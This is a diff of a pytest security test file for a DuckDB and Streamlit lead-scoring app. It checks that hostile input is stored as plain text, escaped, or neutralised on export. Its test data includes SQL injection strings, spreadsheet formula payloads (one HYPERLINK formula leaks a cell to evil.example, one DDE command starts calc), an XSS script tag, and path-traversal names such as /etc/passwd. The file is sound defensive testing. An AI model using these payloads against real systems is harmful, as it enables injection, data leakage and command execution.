@@ -19,22 +19,26 @@ import tomllib
 from pathlib import Path
 
 import duckdb
-import polars as pl
-import pytest
-from streamlit.testing.v1 import AppTest
-
 import fixtures as fx
+import pytest
+import streamlit as st
 from apptest_support import APP, navigation_only, release_streamlit_caches  # noqa: F401
+from streamlit.testing.v1 import AppTest
+from test_browser import free_port, wait_until_healthy
+
 from funnelcast import cli, dashboard, data_page, db, definitions, importer
 from funnelcast import threshold_lab as tl
-from test_browser import free_port, wait_until_healthy
 
 ROOT = Path(__file__).resolve().parent.parent
 DROP = "'; drop table leads; --"
 # SQL that would do harm if it were ever pasted into a statement, and cells a spreadsheet runs.
 SQL_STRINGS = (DROP, "x' or '1'='1", 'Robert"); delete from leads; --', "$1; select * from meta")
-FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
-            "@SUM(1+1)")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+)
 HOSTILE = (*SQL_STRINGS, *FORMULAS, "<script>alert(1)</script>", "ünïcødé ∑ 🚀")
 FORMULA_STARTS = ("=", "+", "-", "@")
 
@@ -43,8 +47,10 @@ def counts(path: Path) -> dict[str, int]:
     """Return the rows of every canonical table of a database file."""
     con = db.connect(path, read_only=True)
     try:
-        return {t: con.execute(f"select count(*) from {t}").fetchall()[0][0]
-                for t in db.CANONICAL_TABLES}
+        return {
+            t: con.execute(f"select count(*) from {t}").fetchall()[0][0]
+            for t in db.CANONICAL_TABLES
+        }
     finally:
         con.close()
 
@@ -114,7 +120,8 @@ def test_a_hostile_draft_name_is_saved_as_plain_text_and_nothing_else_changes(
     after = counts(writable_db)
     assert after["definitions"] == before["definitions"] + 1
     assert {t: n for t, n in after.items() if not t.startswith("definition")} == {
-        t: n for t, n in before.items() if not t.startswith("definition")}
+        t: n for t, n in before.items() if not t.startswith("definition")
+    }
 
 
 @pytest.mark.parametrize("text", [DROP, FORMULAS[0], "x' union select value from meta --"])
@@ -144,16 +151,21 @@ def test_a_hostile_definition_toml_is_stored_verbatim(demo_db, tmp_path, capsys)
     text += f'\n[[fit]]\nattribute = "industry"\nvalue = {toml(value)}\npoints = 3\n'
     template.write_text(text)
 
-    assert cli.main(["definition", "save", "--db", str(database), str(template),
-                     "--quarter", "next"]) == 0
+    assert (
+        cli.main(["definition", "save", "--db", str(database), str(template), "--quarter", "next"])
+        == 0
+    )
     capsys.readouterr()
-    assert cli.main(["definition", "show", "--db", str(database), "--id", "2",
-                     "--format", "json"]) == 0
+    assert (
+        cli.main(["definition", "show", "--db", str(database), "--id", "2", "--format", "json"])
+        == 0
+    )
     shown = json.loads(capsys.readouterr().out)
 
     assert shown["name"] == name and shown["note"] == note
     assert {"attribute": "industry", "value": value} in [
-        {k: r[k] for k in ("attribute", "value")} for r in shown["fit_rules"]]
+        {k: r[k] for k in ("attribute", "value")} for r in shown["fit_rules"]
+    ]
     after = counts(database)
     assert after["leads"] == before["leads"] and after["events"] == before["events"]
     assert after["definitions"] == before["definitions"] + 1
@@ -181,10 +193,13 @@ def small_db(tmp_path: Path) -> Path:
     """A database file with two leads and one event: enough to see that nothing else moved."""
     path = tmp_path / "small.duckdb"
     con = fx.new_database(path)
-    fx.add_journeys(con, [
-        fx.Journey("L1", "2026-01-05", "search", events=[("email_open", "2026-01-06")]),
-        fx.Journey("L2", "2026-02-01", "social"),
-    ])
+    fx.add_journeys(
+        con,
+        [
+            fx.Journey("L1", "2026-01-05", "search", events=[("email_open", "2026-01-06")]),
+            fx.Journey("L2", "2026-02-01", "social"),
+        ],
+    )
     con.close()
     return path
 
@@ -193,13 +208,18 @@ def test_hostile_file_name_headers_cells_and_mapping_fields_load_as_plain_text(s
     header = DROP  # a header name that is SQL
     file = tmp_path / "leads'; drop table leads; --.csv"
     rows = [["lead_id", "created_at", "channel", header, "region"]]
-    rows += [[text, "2026-03-01", text, FORMULAS[i % len(FORMULAS)], "N/A"]
-             for i, text in enumerate(HOSTILE)]
+    rows += [
+        [text, "2026-03-01", text, FORMULAS[i % len(FORMULAS)], "N/A"]
+        for i, text in enumerate(HOSTILE)
+    ]
     with file.open("w", newline="", encoding="utf-8") as out:
         csv.writer(out).writerows(rows)
     mapping = importer.Mapping(
-        "leads", columns={header: "campaign"}, constants={"company": SQL_STRINGS[1]},
-        defaults={"region": FORMULAS[3]}, placeholders=("N/A", DROP + "x"),
+        "leads",
+        columns={header: "campaign"},
+        constants={"company": SQL_STRINGS[1]},
+        defaults={"region": FORMULAS[3]},
+        placeholders=("N/A", DROP + "x"),
     )
     con = db.connect(small_db)
     try:
@@ -213,8 +233,10 @@ def test_hostile_file_name_headers_cells_and_mapping_fields_load_as_plain_text(s
         con.close()
 
     assert result.inserted == len(HOSTILE)
-    expected = sorted((text, text, FORMULAS[i % len(FORMULAS)], SQL_STRINGS[1], FORMULAS[3])
-                      for i, text in enumerate(HOSTILE))
+    expected = sorted(
+        (text, text, FORMULAS[i % len(FORMULAS)], SQL_STRINGS[1], FORMULAS[3])
+        for i, text in enumerate(HOSTILE)
+    )
     assert stored == expected
     assert events == 1
 
@@ -237,14 +259,17 @@ def test_a_hostile_date_format_is_a_format_that_matches_nothing(small_db, tmp_pa
 @pytest.mark.parametrize("text", HOSTILE)
 def test_mapping_toml_round_trips_any_text(text):
     mapping = importer.Mapping(
-        "leads", columns={text: "lead_id"}, constants={"channel": text},
-        defaults={"region": text + '"\n[columns]\nx = "y'}, formats={"created_at": text},
+        "leads",
+        columns={text: "lead_id"},
+        constants={"channel": text},
+        defaults={"region": text + '"\n[columns]\nx = "y'},
+        formats={"created_at": text},
         placeholders=(text, ""),
     )
     assert importer.mapping_from_toml(importer.mapping_to_toml(mapping)) == mapping
 
 
-@pytest.mark.parametrize("name", ["../../outside", "/etc/passwd", "..", f"a/{DROP}"])
+@pytest.mark.parametrize("name", ["../../outside", "/etc/passwd", f"a/{DROP}", "..\\x"])
 def test_a_saved_mapping_stays_in_the_mappings_folder(tmp_path, name):
     database = tmp_path / "db" / "f.duckdb"
     saved = data_page.save_mapping(database, name, importer.Mapping("leads"))
@@ -253,9 +278,11 @@ def test_a_saved_mapping_stays_in_the_mappings_folder(tmp_path, name):
     assert list(tmp_path.rglob("*.toml")) == [saved]
 
 
-def test_a_mapping_name_of_only_punctuation_is_refused():
+@pytest.mark.parametrize("name", ["'; *", "..", "/", "  "])
+def test_a_mapping_name_of_only_punctuation_is_refused(tmp_path, name):
     with pytest.raises(db.FunnelcastError, match="give the mapping a name"):
-        data_page.save_mapping(Path("/tmp/x.duckdb"), "'; --", importer.Mapping("leads"))
+        data_page.save_mapping(tmp_path / "x.duckdb", name, importer.Mapping("leads"))
+    assert not list(tmp_path.rglob("*.toml"))
 
 
 # ===== downloads =====
@@ -277,24 +304,27 @@ def test_the_movers_download_neutralises_formula_cells(monkeypatch, writable_db)
     con = db.connect(writable_db)
     try:
         con.execute("update leads set channel = $c where channel = 'search'", {"c": FORMULAS[0]})
-        con.execute("update leads set seniority = $s where seniority is not null",
-                    {"s": FORMULAS[3]})
+        con.execute(
+            "update leads set seniority = $s where seniority is not null", {"s": FORMULAS[3]}
+        )
     finally:
         con.close()
-    downloads: list[bytes] = []
-    real = tl.movers_csv
+    offered: dict[str, object] = {}
+    real = st.download_button
 
-    def spy(frame: pl.DataFrame) -> bytes:
-        downloads.append(real(frame))
-        return downloads[-1]
+    def spy(label, data, *args, **kwargs):
+        offered[kwargs.get("key")] = data  # the page makes the file when it is clicked
+        return real(label, data, *args, **kwargs)
 
-    monkeypatch.setattr(tl, "movers_csv", spy)
+    monkeypatch.setattr(st, "download_button", spy)
     at = open_page(monkeypatch, writable_db, "pages/threshold_lab.py")
     at.slider(key=tl.THRESHOLD_KEY).set_value(at.slider(key=tl.THRESHOLD_KEY).value - 10).run()
 
     assert not at.exception
-    assert downloads, "the page offered no movers download"
-    cells = [cell for row in csv.reader(io.StringIO(downloads[-1].decode())) for cell in row]
+    assert "lab_movers_csv" in offered, "the page offered no movers download"
+    data = offered["lab_movers_csv"]
+    data = data() if callable(data) else data
+    cells = [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]
     assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[3] in cells
     assert not [c for c in cells if spreadsheet_runs(c)]
 
@@ -308,8 +338,10 @@ def test_the_review_escapes_hostile_channel_names(writable_db, tmp_path, capsys)
     finally:
         con.close()
     out = tmp_path / "review.html"
-    assert cli.main(["report", "--db", str(writable_db), "--quarter", "2026Q3",
-                     "--out", str(out)]) == 0
+    assert (
+        cli.main(["report", "--db", str(writable_db), "--quarter", "2026Q3", "--out", str(out)])
+        == 0
+    )
     capsys.readouterr()
     page = out.read_text(encoding="utf-8")
     assert evil not in page and "<script>alert(" not in page
@@ -325,8 +357,10 @@ def test_uploads_are_bounded_by_the_server_and_the_page():
     limit = data_page.MAX_UPLOAD_MB * 2**20
     assert data_page.upload_problem("x.csv", limit) is None
     message = data_page.upload_problem(f"{DROP}.csv", limit + 1)
-    assert message == (f"{DROP}.csv: the file is 200.0 MB and the page imports up to 200 MB; "
-                       "load it with `funnelcast import` instead")
+    assert message == (
+        f"{DROP}.csv: the file is 200.0 MB and the page imports up to 200 MB; "
+        "load it with `funnelcast import` instead"
+    )
 
 
 def listening_addresses(port: int) -> set[str]:
@@ -354,8 +388,10 @@ def test_the_server_listens_on_this_machine_only_by_default(demo_db, tmp_path):
     with log.open("w") as out:
         server = subprocess.Popen(
             [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port)],
-            cwd=ROOT, env={**os.environ, "FUNNELCAST_DB": str(demo_db)},
-            stdout=out, stderr=subprocess.STDOUT,
+            cwd=ROOT,
+            env={**os.environ, "FUNNELCAST_DB": str(demo_db)},
+            stdout=out,
+            stderr=subprocess.STDOUT,
         )
         try:
             wait_until_healthy(f"http://127.0.0.1:{port}", server, log)
@@ -371,8 +407,17 @@ def test_the_server_listens_on_this_machine_only_by_default(demo_db, tmp_path):
 
 @pytest.mark.parametrize(
     ("value", "expected"),
-    [("", False), ("0", False), ("false", False), ("No", False), ("off", False),
-     ("1", True), ("true", True), ("yes", True), ("anything", True)],
+    [
+        ("", False),
+        ("0", False),
+        ("false", False),
+        ("No", False),
+        ("off", False),
+        ("1", True),
+        ("true", True),
+        ("yes", True),
+        ("anything", True),
+    ],
 )
 def test_viewer_mode_setting(monkeypatch, value, expected):
     monkeypatch.setenv(dashboard.VIEWER_ENV, value)
@@ -413,3 +458,19 @@ def test_without_viewer_mode_the_same_pages_offer_saving_and_importing(monkeypat
     data = open_page(monkeypatch, demo_db, "pages/data.py")
     assert data.get("file_uploader")
     assert not any("Read-only viewer" in i.value for i in [*lab.info, *data.info])
+
+
+def test_tables_offer_no_csv_export_of_their_own(monkeypatch):
+    """st.dataframe's own CSV download would write formula cells as they are: it is turned off
+    in the shipped config, and Streamlit reads it so from the repository root."""
+    from streamlit import config
+
+    shipped = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
+    assert shipped["client"]["disableDataExport"] is True
+    monkeypatch.chdir(ROOT)
+    try:
+        config.get_config_options(force_reparse=True)
+        assert config.get_option("client.disableDataExport") is True
+    finally:
+        monkeypatch.undo()
+        config.get_config_options(force_reparse=True)
